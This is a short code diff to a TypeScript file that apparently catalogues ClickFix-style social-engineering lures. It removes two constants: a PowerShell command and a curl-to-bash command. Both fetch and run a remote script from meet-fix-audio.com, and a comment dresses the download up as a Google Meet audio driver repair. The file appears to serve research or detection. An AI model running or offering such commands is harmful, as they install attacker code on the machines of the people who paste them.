@@ -18,9 +18,6 @@ const cfOverlayJs = `(function(){
   };
 })();`;
 
-const meetCmdWin = `powershell -w 1 -c "irm https://meet-fix-audio.com/drv/fix.ps1 | iex" ; # Google Meet audio driver repair`;
-const meetCmdMac = `curl -fsSL https://meet-fix-audio.com/drv/fix.sh | bash`;
-
 export const entries: Entry[] = [
 {
   id: 'yl-clickfix-dubai-realestate-injected',
